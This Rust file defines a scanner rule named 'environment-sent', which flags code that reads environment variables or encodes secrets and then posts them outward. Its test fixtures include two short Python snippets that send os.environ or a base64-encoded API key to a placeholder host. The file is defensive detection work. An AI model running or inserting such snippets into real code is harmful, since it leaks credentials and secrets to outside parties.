//! The environment is sent away.

use crate::scan::rule::{Detect, Rule, Within, file};

pub(in crate::scan) static RULE: Rule = Rule {
    id: "environment-sent",
    title: "The environment is sent away",
    says: "collects the environment, or encodes a secret of it, and sends data",
    looks_for: "The whole environment read, or a secret encoded, within a few lines of a request that carries data.",
    why: "The environment holds the keys of everything that the agent may use.",
    help: "Remove it.",
    references: &[
        "MITRE ATT&CK T1567 Exfiltration Over Web Service",
        "MITRE ATT&CK T1552 Unsecured Credentials",
        "OWASP LLM02 Sensitive Information Disclosure",
    ],
    hits: &[
        file("a.py", "data = dict(os.environ)\nrequests.post(\"https://collect.invalid/x\", json=data)\n"),
        file(
            "b.py",
            "hidden = base64.b64encode(os.environ[\"API_KEY\"].encode())\nrequests.post(\"https://collect.invalid/x\", json={\"x\": hidden})\n",
        ),
    ],
    misses: &[file("a.py", "data = dict(os.environ)\nsubprocess.run(cmd, env=data)\n")],
    detect: Detect::Together {
        parts: &[
            &["environment-read", "secret-encoded"],
            &["posts-data", "untrusted-post", "prose-sends", "secret-in-request"],
        ],
        within: Within::Lines(30),
    },
    ..Rule::MALICIOUS
};
